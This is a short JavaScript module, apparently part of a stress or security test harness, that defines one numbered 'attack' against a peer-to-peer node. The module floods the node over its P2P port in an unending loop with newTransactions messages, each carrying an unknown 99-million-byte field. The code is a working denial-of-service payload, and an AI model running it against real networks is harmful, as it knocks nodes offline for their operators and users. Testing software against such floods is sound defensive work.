// Row 4: transactions with an unknown field of 99 million numbers.
import { count, crowd } from '../crowd.mjs';
import { COMMAND, Peer, notify } from '../peer.mjs';
import { body, u8Array } from '../storage.mjs';

const NUMBERS = 99_000_000;

export const attacks = [
  {
    id: '4',
    kind: 'p2p',
    what: 'an unknown field of 99 million numbers',
    run({ ports, chain }, counts) {
      const bytes = notify(COMMAND.newTransactions, body([u8Array('x', Buffer.alloc(NUMBERS))]));
      return crowd(1, counts, async (address) => {
        const peer = await Peer.open(ports.p2p, address, chain);
        while (!peer.isClosed) {
          await peer.send(bytes);
          count(counts, 'messages');
        }
      });
    },
  },
];
